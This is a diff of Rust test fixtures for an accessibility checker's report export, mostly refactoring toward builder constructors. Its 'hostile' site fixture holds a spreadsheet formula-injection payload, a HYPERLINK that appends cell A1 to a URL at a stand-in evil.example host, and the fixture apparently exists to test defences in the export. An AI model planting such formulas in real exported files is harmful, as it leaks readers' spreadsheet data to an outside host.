@@ -5,8 +5,8 @@ use std::collections::{BTreeMap, BTreeSet};
 use a11ycheck_core::{
     catalog::{self, Basis, RuleEntry, WcagVersion},
     domain::{
-        Engine, Failure, FailureCode, Finding, Findings, Impact, PageOutcome, PlatformKey, RuleFacts, RuleId,
-        SiteDetails, SiteUrl,
+        Failure, FailureCode, Finding, Findings, Impact, PageOutcome, PlatformKey, RuleFacts, RuleId, SiteDetails,
+        SiteUrl, Tool,
     },
     export::{ExportFormat, ExportSource, write},
     locale::Locale,
@@ -33,7 +33,7 @@ pub(crate) fn site(name: &str) -> SiteDetails {
 }
 
 pub(crate) fn source<'a>(site: &'a SiteDetails, findings: &'a Findings, locale: Locale) -> ExportSource<'a> {
-    ExportSource { team: "Blue Team", site, checked_at: checked_at(), findings, locale }
+    ExportSource::new("Blue Team", site, checked_at(), findings, locale)
 }
 
 pub(crate) fn exported(format: ExportFormat, site: &SiteDetails, findings: &Findings, locale: Locale) -> String {
@@ -43,13 +43,9 @@ pub(crate) fn exported(format: ExportFormat, site: &SiteDetails, findings: &Find
 }
 
 fn facts(impact: Impact, tags: &[&str]) -> RuleFacts {
-    RuleFacts {
-        impact,
-        tags: tags.iter().map(|tag| (*tag).to_owned()).collect(),
-        help: "Pages must be kind".to_owned(),
-        description: "Ensure that `pages` are kind".to_owned(),
-        help_url: "https://rules.example/kind?a=[b]".to_owned(),
-    }
+    RuleFacts::new(impact, tags.iter().copied())
+        .with_texts("Pages must be kind", "Ensure that `pages` are kind")
+        .with_help_url("https://rules.example/kind?a=[b]")
 }
 
 fn element(rule: &str, page: usize, selector: &str, html: &str) -> Finding {
@@ -65,37 +61,32 @@ fn findings_of(items: Vec<Finding>) -> Findings {
         ("region", facts(Impact::Moderate, &["best-practice"])),
         ("kind-page", facts(Impact::Minor, &["wcag2a"])),
     ];
-    Findings {
-        engine: Engine::axe_core("4.14.1", "Chromium 150.0"),
-        pages: vec![
-            PageOutcome::checked(HOME, "Shop"),
-            PageOutcome { frames_not_checked: 2, ..PageOutcome::checked(CART, "Cart") },
-            PageOutcome::checked("https://shop.example/about", "About"),
-            PageOutcome::failed(
-                "https://shop.example/old",
-                "",
-                Failure::new(FailureCode::HttpStatus, "The web server answered with status 404."),
-            ),
-            PageOutcome::dead_link(
-                "https://shop.example/gone",
-                CART,
-                Failure::new(FailureCode::HttpStatus, "The web server answered with status 410."),
-            ),
-        ],
-        rules: rules.into_iter().map(|(rule, facts)| (RuleId::new(rule), facts)).collect(),
-        items,
-        needs_review: BTreeMap::from([(RuleId::new("link-name"), 3)]),
-        stack: vec![],
-        screen: None,
-        ran: Some(rules_of_a_check()),
-        pictures_not_stored: false,
-        stopped_by_timeouts: false,
-    }
+    let status =
+        |status: u16| Failure::new(FailureCode::HttpStatus, format!("The web server answered with status {status}."));
+    let mut cart = PageOutcome::checked(CART, "Cart");
+    cart.frames_not_checked = 2;
+    let pages = [
+        PageOutcome::checked(HOME, "Shop"),
+        cart,
+        PageOutcome::checked("https://shop.example/about", "About"),
+        PageOutcome::failed("https://shop.example/old", "", status(404)),
+        PageOutcome::dead_link("https://shop.example/gone", CART, status(410)),
+    ];
+    let mut findings = Findings::new(Tool::axe_core("4.14.1", "Chromium 150.0"))
+        .with_pages(pages)
+        .with_rules(rules.map(|(rule, facts)| (RuleId::new(rule), facts)))
+        .with_items(items)
+        .with_ran(rules_of_a_check());
+    findings.needs_review = BTreeMap::from([(RuleId::new("link-name"), 3)]);
+    findings
 }
 
-/// What an ordinary check found: problems and recommendations, new and old elements, a rule that is not in the catalogue.
+/// The findings of an ordinary check: problems and recommendations, new and old elements, a rule that is not in the catalogue.
 pub(crate) fn ordinary() -> Findings {
-    let new = |finding: Finding| Finding { is_new: true, ..finding };
+    let new = |mut finding: Finding| {
+        finding.is_new = true;
+        finding
+    };
     findings_of(vec![
         element("color-contrast", 0, "main > p:nth-child(2)", "<p style=\"color: #aaa\">Ціна, 5 ₴</p>"),
         new(element("color-contrast", 0, ".price", "<span class=\"price\">5 ₴</span>")),
@@ -106,7 +97,7 @@ pub(crate) fn ordinary() -> Findings {
     ])
 }
 
-/// What a hostile site does to whoever opens the file.
+/// The findings of a site that attacks readers of the file.
 pub(crate) fn hostile() -> Findings {
     let texts = [
         "=HYPERLINK(\"https://evil.example?\"&A1,\"Click\")",
@@ -127,24 +118,22 @@ pub(crate) fn hostile() -> Findings {
     findings_of(all.map(|text| element("color-contrast", 1, text, text)).collect())
 }
 
-/// What a check of a large and careless site found: `count` elements of one problem rule, as many on each of `pages` pages.
+/// The findings of a check of a large and careless site: `count` elements of one problem rule, evenly spread over `pages` pages.
 pub(crate) fn large(count: usize, pages: usize) -> Findings {
     let items = (0..count).map(|number| {
         let page = number * pages / count;
         element("color-contrast", page, &format!("main > div:nth-child({number}) > p"), "<p class=\"price\">5 ₴</p>")
     });
-    Findings {
-        pages: (0..pages).map(|page| PageOutcome::checked(format!("https://shop.example/p/{page}"), "Page")).collect(),
-        ..findings_of(items.collect())
-    }
+    let page = |page| PageOutcome::checked(format!("https://shop.example/p/{page}"), "Page");
+    findings_of(items.collect()).with_pages((0..pages).map(page))
 }
 
-/// A check that found nothing.
+/// The findings of a check that found nothing.
 pub(crate) fn clean() -> Findings {
     findings_of(vec![])
 }
 
-/// What axe-core runs when nothing is asked of it: neither level AAA nor WCAG 2.2.
+/// The rules that axe-core runs by default: neither level AAA nor WCAG 2.2.
 fn rules_of_a_check() -> BTreeSet<RuleId> {
     let runs = |entry: &RuleEntry| {
         entry.basis == Basis::WcagAAa && entry.since().is_some_and(|version| version < WcagVersion::V2_2)
